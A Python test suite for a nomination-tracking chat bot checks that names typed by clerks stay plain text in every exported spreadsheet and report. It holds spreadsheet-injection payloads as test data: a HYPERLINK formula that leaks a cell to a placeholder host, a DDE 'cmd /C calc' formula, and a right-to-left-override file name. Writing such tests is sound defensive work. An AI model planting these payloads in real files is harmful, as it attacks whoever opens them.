"""What a clerk typed is text in every workbook the bot writes, whatever it looks like.

A name such as «=HYPERLINK("http://x/?"&D5,"Xem")» reaches the official's and the council's workbooks
through a list file sent back (or the chat); a spreadsheet program must show it as typed and run nothing.
Each file is read back with openpyxl: every such cell is a text cell (data type "s"), never a formula.
"""

from __future__ import annotations

import io

from docx import Document
from openpyxl import load_workbook

from bot import texts
from tests.list_files import LDTT, fill
from tests.stories.test_deliberation import decide_in_storage, submit
from tests.stories.test_list_files import template_of
from tests.stories.test_officials import official

HOSTILE = ['=HYPERLINK("http://x/?"&D5,"Xem")', "+1", "-2", "@SUM(A1)"]
POST = "=cmd|' /C calc'!A0"


def text_cells(data: bytes, sheet: str | None = None) -> dict[str, str]:
    """Every cell of a workbook (one sheet, or all) whose text starts as a formula would: value -> data type."""
    book = load_workbook(io.BytesIO(data))
    found = {}
    for ws in [book[sheet]] if sheet else book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    found[cell.value] = cell.data_type
    return found


def assert_text(data: bytes, sheet: str | None = None, values=(*HOSTILE, POST)) -> None:
    found = text_cells(data, sheet)
    assert set(values) <= set(found), (set(values) - set(found), sheet)
    assert {v: found[v] for v in values} == {v: "s" for v in values}  # text, never a formula ("f")


async def test_names_that_look_like_formulas_stay_text_in_the_lists_the_summary_and_the_council(bot, fake):
    clerk = await bot.register(801, "Lò Thị Mai")
    template = await template_of(clerk)
    rows = [{"subject": "Cá nhân", "name": name, "birth_year": 1980, "position": POST, "form": LDTT,
             "achievements": "Hoàn thành xuất sắc nhiệm vụ năm 2020."} for name in HOSTILE]
    [answer] = await clerk.send_file("danh sach.xlsx", fill(template, "nominations", rows, as_text=True))
    assert texts.LIST_IMPORT_SAVED.format(saved=4) in answer.text

    # The clerk's own list, as it stands.
    await clerk.press(texts.BTN_LIST_OPEN)
    [export] = await clerk.press(texts.BTN_LIST_EXPORT)
    assert_text(export.data)

    # The official's /tonghop workbook, once the report is in.
    submit(bot, "Quài Nưa")
    boss = await official(bot)
    before = fake.count(900)
    fake.push_text(900, "/tonghop")
    await fake.wait_for(lambda: sum(m.kind == "document" for m in fake.bot_messages(900)[before:]) == 3,
                        what="the report, the proposal list and the workbook")
    files = {m.filename: m.data for m in fake.bot_messages(900)[before:] if m.kind == "document"}
    assert_text(files["so-lieu-tongket-2020.xlsx"], texts.XLSX_NOMINEES_SHEET)

    # The council's workbook: what passed and what was refused.
    decide_in_storage(bot, "LDTT", HOSTILE[:2], "passed")
    decide_in_storage(bot, "LDTT", HOSTILE[2:], "refused")
    await boss.send("/binhxet")
    documents = await boss.press(texts.BTN_COUNCIL_DOCS, expect=3)
    [book] = [m for m in documents if m.kind == "document" and m.filename.endswith(".xlsx")]
    assert_text(book.data, texts.XLSX_COUNCIL_SHEETS["passed"], HOSTILE[:2] + [POST])
    assert_text(book.data, texts.XLSX_COUNCIL_SHEETS["refused"], HOSTILE[2:] + [POST])


async def test_role_models_typed_in_the_chat_stay_text_in_the_export_and_the_summary(bot, fake):
    clerk = await bot.register(801, "Lò Thị Mai")
    await clerk.send("/dienhinh")
    for name in HOSTILE:
        await clerk.press("➕ Thêm")
        await clerk.send(name)
        await clerk.press("Khác")
        await clerk.send("@Bản Món")
        await clerk.press("xã Quài Nưa")
        await clerk.send("-Nuôi bò sinh sản")
        await clerk.press("Không rõ")
        await clerk.press("Xác nhận")
    await clerk.send("/dienhinh")
    [export] = await clerk.press(texts.BTN_LIST_EXPORT)
    assert_text(export.data, values=(*HOSTILE, "@Bản Món", "-Nuôi bò sinh sản"))

    submit(bot, "Quài Nưa")
    await official(bot)
    before = fake.count(900)
    fake.push_text(900, "/tonghop")
    await fake.wait_for(lambda: any(m.kind == "document" and m.filename.endswith(".xlsx")
                                    for m in fake.bot_messages(900)[before:]), what="the workbook")
    [book] = [m.data for m in fake.bot_messages(900)[before:] if m.kind == "document" and m.filename.endswith(".xlsx")]
    assert_text(book, texts.XLSX_ROLE_MODELS_SHEET, values=(*HOSTILE, "@Bản Món", "-Nuôi bò sinh sản"))


async def test_control_characters_a_clerk_sent_never_stop_a_file_being_written(bot, fake):
    """C1 controls, DEL and a right-to-left override in names and in the file's own name (as the
    attacker's «ds\\x01\\u202egpj.xlsx»): the import saves the rows, and the list, the official's
    workbook and Word report are written without them."""
    clerk = await bot.register(801, "Lò Thị Mai")
    template = await template_of(clerk)
    names = ["Lò Văn\u0086 Tính", "Cà\x7f Văn\u009f Lả", "Quàng\u202e Văn Đôi"]
    rows = [{"subject": "Cá nhân", "name": name, "birth_year": 1980, "position": "Trưởng bản", "form": LDTT,
             "achievements": "Hoàn thành xuất sắc nhiệm vụ."} for name in names]
    [answer] = await clerk.send_file("ds\x01\u202egpj.xlsx", fill(template, "nominations", rows))
    assert texts.LIST_IMPORT_SAVED.format(saved=3) in answer.text

    await clerk.press(texts.BTN_LIST_OPEN)
    [export] = await clerk.press(texts.BTN_LIST_EXPORT)
    assert export.kind == "document"
    written = [c for row in load_workbook(io.BytesIO(export.data)).worksheets[0].iter_rows(values_only=True)
               for c in row if isinstance(c, str)]
    assert {"Lò Văn Tính", "Cà Văn Lả", "Quàng Văn Đôi"} <= set(written)
    assert not [c for c in written if any(ch in c for ch in "\x01\x7f\u0086\u009f\u202e")]

    submit(bot, "Quài Nưa")
    await official(bot)
    before = fake.count(900)
    fake.push_text(900, "/tonghop")
    await fake.wait_for(lambda: sum(m.kind == "document" for m in fake.bot_messages(900)[before:]) == 3,
                        what="the report, the proposal list and the workbook")
    files = {m.filename: m.data for m in fake.bot_messages(900)[before:] if m.kind == "document"}
    nominees = [row[1] for row in load_workbook(io.BytesIO(files["so-lieu-tongket-2020.xlsx"]))[
        texts.XLSX_NOMINEES_SHEET].iter_rows(min_row=5, values_only=True)]
    assert sorted(nominees) == sorted(["Lò Văn Tính", "Cà Văn Lả", "Quàng Văn Đôi"])
    listed = Document(io.BytesIO(files["de-nghi-khen-thuong-tongket-2020.docx"]))
    cells = {c.text for table in listed.tables for row in table.rows for c in row.cells}
    assert {"Lò Văn Tính", "Cà Văn Lả", "Quàng Văn Đôi"} <= cells
